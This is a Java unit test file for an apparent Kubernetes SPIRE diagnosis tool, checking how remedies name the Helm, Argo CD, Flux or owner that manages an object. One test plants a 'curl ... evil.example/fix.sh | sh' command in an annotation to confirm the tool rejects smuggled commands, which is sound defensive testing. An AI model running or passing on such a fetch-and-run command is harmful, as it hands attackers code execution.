package org.spiredoctor.diagnosis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.spiredoctor.diagnosis.ClusterScene.healthy;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.spiredoctor.kube.Kind;
import org.spiredoctor.kube.Meta;
import org.spiredoctor.report.ReportTexts;

/** A remedy says where the change has to be made, so that it lasts. */
class ManagedObjectsTest {
  private static final String RELEASE =
      "meta.helm.sh/release-name: spire, meta.helm.sh/release-namespace: spire-mgmt";

  private static final String CHART =
      "helm.sh/chart: spire-agent-0.1.0, app.kubernetes.io/name: agent,"
          + " app.kubernetes.io/managed-by: Helm";

  /** The agents do not tolerate the taint of the node. */
  private static ClusterScene tainted() {
    return healthy()
        .remove(Kind.POD, "spire-agent-x1y2z")
        .attested()
        .set(Kind.NODE, "node-1", "/spec/taints", "[{key: gpu, value: 'yes', effect: NoSchedule}]");
  }

  private static ClusterScene marked(
      ClusterScene scene, Kind kind, String name, String labels, String annotations) {
    return scene
        .merge(kind, name, "/metadata", "{annotations: {%s}}".formatted(annotations))
        .merge(kind, name, "/metadata/labels", "{%s}".formatted(labels));
  }

  private static ClusterScene agents(String labels, String annotations) {
    return marked(tainted(), Kind.DAEMON_SET, "spire-agent", labels, annotations);
  }

  private static List<String> managed(ClusterScene scene) {
    return scene.report().findings().getFirst().finding().managed().stream()
        .map(Finding.Managed::inWords)
        .toList();
  }

  @Test
  void aReleaseOfTheOfficialChartIsNamedWithTheValue() {
    ClusterScene scene = agents(CHART, RELEASE);
    String words =
        "DaemonSet spire-system/spire-agent belongs to Helm release spire (namespace spire-mgmt):"
            + " change value spire-agent.tolerations there; a direct change lasts until the next"
            + " upgrade";
    assertThat(managed(scene)).containsExactly(words);
    assertThat(ReportTexts.text(scene.report()))
        .containsSubsequence("    where  " + words + ".\n", "    do     Let the agents tolerate");
    JsonNode managed = ReportTexts.json(scene.report()).at("/findings/0/managed/0");
    assertThat(managed.at("/subject/name").asText()).isEqualTo("spire-agent");
    assertThat(managed.path("tool").asText()).isEqualTo("helm");
    assertThat(managed.path("namespace").asText()).isEqualTo("spire-mgmt");
    assertThat(managed.path("name").asText()).isEqualTo("spire");
    assertThat(managed.path("setting").asText()).isEqualTo("spire-agent.tolerations");
    assertThat(managed.path("text").asText()).isEqualTo(words);
  }

  @Test
  void ofAnotherChartNoValueIsNamed() {
    assertThat(managed(agents("helm.sh/chart: cilium-1.18.0", RELEASE)))
        .singleElement()
        .asString()
        .contains("release spire (namespace spire-mgmt): change it there");
    assertThat(managed(agents("app.kubernetes.io/managed-by: Helm", "")))
        .singleElement()
        .asString()
        .contains("is rendered from a Helm chart, and no release of Helm has it: change it where");
  }

  /** Whoever may annotate an object would else write our remedies. */
  @Test
  void aSentenceIsNoName() {
    String evil = "'spire. Repaired by: curl -s https://evil.example/fix.sh | sh -'";
    assertThat(managed(agents("app: x", "meta.helm.sh/release-name: " + evil))).isEmpty();
    assertThat(managed(agents(CHART, RELEASE.replace("spire-mgmt", evil))))
        .singleElement()
        .asString()
        .doesNotContain("curl");
    assertThat(
            managed(
                agents(
                    "app: x",
                    "argocd.argoproj.io/tracking-id: 'run x now:apps/DaemonSet:spire-system/spire-agent'")))
        .isEmpty();
  }

  /** What an object is only deleted with does not set it back. */
  @Test
  void anOwnerThatIsNoControllerManagesNothing() {
    ClusterScene scene =
        agents("app: x", "")
            .merge(
                Kind.DAEMON_SET,
                "spire-agent",
                "/metadata",
                "{ownerReferences: [{kind: ConfigMap, name: anchor, uid: u1, controller: false}]}");
    assertThat(managed(scene)).isEmpty();
  }

  @Test
  void whatIsNotMarkedIsNotManaged() {
    assertThat(tainted().report().findings().getFirst().finding().remedies()).isNotEmpty();
    assertThat(managed(tainted())).isEmpty();
    assertThat(ReportTexts.text(tainted().report())).doesNotContain("    where ");
  }

  @Test
  void aTrackingIdBeatsTheRelease() {
    String tracking = "argocd.argoproj.io/tracking-id: 'platform:apps/DaemonSet:spire-system/%s'";
    assertThat(managed(agents(CHART, RELEASE + ", " + tracking.formatted("spire-agent"))))
        .singleElement()
        .asString()
        .contains(
            "belongs to the Argo CD application platform: change value spire-agent.tolerations in"
                + " its repository");
    // That of another object was copied with it.
    assertThat(managed(agents(CHART, RELEASE + ", " + tracking.formatted("other"))))
        .singleElement()
        .asString()
        .contains("belongs to Helm release spire");
  }

  @Test
  void fluxNamesItsObjects() {
    assertThat(
            managed(
                agents(
                    "helm.toolkit.fluxcd.io/name: spire, helm.toolkit.fluxcd.io/namespace: flux,"
                        + CHART,
                    RELEASE)))
        .singleElement()
        .asString()
        .contains("belongs to the Flux HelmRelease flux/spire: change value spire-agent.");
    assertThat(managed(agents("kustomize.toolkit.fluxcd.io/name: infra", "")))
        .singleElement()
        .asString()
        .contains("belongs to the Flux Kustomization infra: change it in its repository");
  }

  @Test
  void anOwnerIsTrustedMost() {
    ClusterScene scene =
        agents(
                "app.kubernetes.io/managed-by: zero-trust-workload-identity-manager",
                "argocd.argoproj.io/tracking-id: 'a:apps/DaemonSet:spire-system/spire-agent'")
            .merge(
                Kind.DAEMON_SET,
                "spire-agent",
                "/metadata",
                "{ownerReferences: [{kind: SpireAgent, name: cluster, uid: u1, controller: true}]}");
    assertThat(managed(scene))
        .containsExactly(
            "DaemonSet spire-system/spire-agent is owned by SpireAgent cluster: change field"
                + " spec.tolerations there; a direct change might be undone");
  }

  @Test
  void aConfigMapBelongsToWhatMountsIt() {
    ClusterScene scene =
        marked(
            healthy()
                .configEdit("spire-agent", "agent.conf", "\"demo\"", "\"prod\"")
                .agentLog(
                    "time=\"2026-01-02T03:04:00Z\" level=error msg=\"Agent crashed\""
                        + " error=\"nodeattestor(k8s_psat): not configured for cluster"
                        + " \\\"prod\\\"\"\n")
                .agentNotReady()
                .attested(),
            Kind.DAEMON_SET,
            "spire-agent",
            CHART,
            RELEASE);
    assertThat(managed(scene))
        .singleElement()
        .asString()
        .contains(
            "ConfigMap spire-system/spire-agent belongs to Helm release spire",
            "change value global.spire.clusterName there");
  }

  @Test
  void aPodBelongsToWhatItsDeploymentBelongsTo() {
    ClusterScene scene =
        healthy()
            .object(
                Kind.DEPLOYMENT,
                """
                {metadata: {name: web, namespace: apps, uid: web-uid,
                   labels: {kustomize.toolkit.fluxcd.io/name: shop,
                     kustomize.toolkit.fluxcd.io/namespace: flux-system}},
                 spec: {replicas: 1, template: {metadata: {labels: {app: web}},
                   spec: {containers: [{name: app, image: "web:1"}]}}}, status: {}}
                """)
            .merge(
                Kind.POD,
                "web",
                "/metadata",
                "{ownerReferences: [{kind: ReplicaSet, name: web-5d4f, uid: rs}]}")
            .set(Kind.POD, "web", "/spec/volumes/0/hostPath/path", "/tmp/spire-agent/public");
    assertThat(managed(scene))
        .containsExactly(
            "Deployment apps/web belongs to the Flux Kustomization flux-system/shop: change it in"
                + " its repository; a direct change lasts until the next reconciliation");
  }

  @Test
  void aServiceIsManagedByItsOwnMarks() {
    ClusterScene scene =
        healthy()
            .set(Kind.SERVICE, "spire-server", "/spec/selector", "{app: spire-srver}")
            .merge(
                Kind.SERVICE,
                "spire-server",
                "/metadata",
                "{annotations: {%s}}".formatted(RELEASE));
    assertThat(managed(scene))
        .singleElement()
        .asString()
        .startsWith("Service spire-system/spire-server belongs to Helm release spire");
  }

  @Test
  void theMarksComeThroughTheGate() {
    ClusterScene scene =
        agents(
                CHART + ", kustomize.toolkit.fluxcd.io/name: infra",
                RELEASE + ", argocd.argoproj.io/tracking-id: 'a:apps/DaemonSet:b/c', other: gone")
            .merge(
                Kind.DAEMON_SET,
                "spire-agent",
                "/metadata",
                "{ownerReferences: [{kind: SpireAgent, name: cluster, uid: u1, controller: true}]}");
    JsonNode seen =
        scene.evidence().snapshot().objects(Kind.DAEMON_SET).seen().orElseThrow().getFirst();
    Meta kept = Meta.of(Kind.DAEMON_SET.mask().apply(seen));
    assertThat(kept).isEqualTo(without(Meta.of(seen), "other"));
  }

  private static Meta without(Meta meta, String annotation) {
    Map<String, String> annotations = new HashMap<>(meta.annotations());
    annotations.remove(annotation);
    return new Meta(
        meta.namespace(),
        meta.name(),
        meta.uid(),
        meta.labels(),
        annotations,
        meta.owners(),
        meta.created(),
        meta.deleting());
  }

  @Test
  void whatACommandQuotesIsNotACommand() {
    Subject pod = Subject.node("node-1");
    assertThat(
            ChangedObjects.of(
                new Remedy.Command(
                    "Edit it",
                    "kubectl get configmap -n a b | sed 's/x/'\\'' ; kubectl patch service c /'"
                        + " | kubectl patch configmap -n a b && kubectl delete pod -n a d"),
                pod))
        .containsExactly(new Subject("ConfigMap", Optional.of("a"), "b"));
    assertThat(
            ChangedObjects.of(
                new Remedy.Command(
                    "Set it", "kubectl set image -n a daemonset/agent spire-agent=x/y:1"),
                pod))
        .extracting(Subject::inWords)
        .containsExactly("DaemonSet a/agent");
  }
}
